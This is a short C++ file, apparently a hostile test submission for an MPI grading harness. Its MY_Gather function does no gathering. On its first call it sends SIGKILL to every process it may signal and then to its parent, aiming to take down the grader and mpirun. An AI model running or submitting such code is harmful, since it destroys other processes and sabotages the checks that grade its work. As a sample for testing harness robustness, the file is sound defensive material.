// Tries to kill every process it may signal (the grader, mpirun, the other ranks) and then
// its parent, on its first call.
#include <csignal>
#include <mpi.h>
#include <unistd.h>

int MY_Gather(const void*, int, MPI_Datatype, void*, int, MPI_Datatype, int, MPI_Comm) {
  ::kill(-1, SIGKILL);
  ::kill(::getppid(), SIGKILL);
  return MPI_SUCCESS;
}
